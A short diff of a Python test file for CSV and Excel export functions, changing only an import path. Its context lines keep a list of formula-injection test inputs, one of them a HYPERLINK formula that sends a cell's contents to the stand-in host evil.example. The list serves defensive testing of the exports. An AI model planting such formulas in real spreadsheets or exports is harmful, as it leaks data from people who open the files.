@@ -12,7 +12,7 @@ from typing import Any
 import pytest
 from openpyxl import load_workbook
 
-from schema.exports import to_csv, to_xlsx
+from schema.reports.exports import to_csv, to_xlsx
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A4,"点击查看")', "+1+2", "-3+4", "@SUM(A1:A2)",
            "\t=1+1", "\r=1+1"]
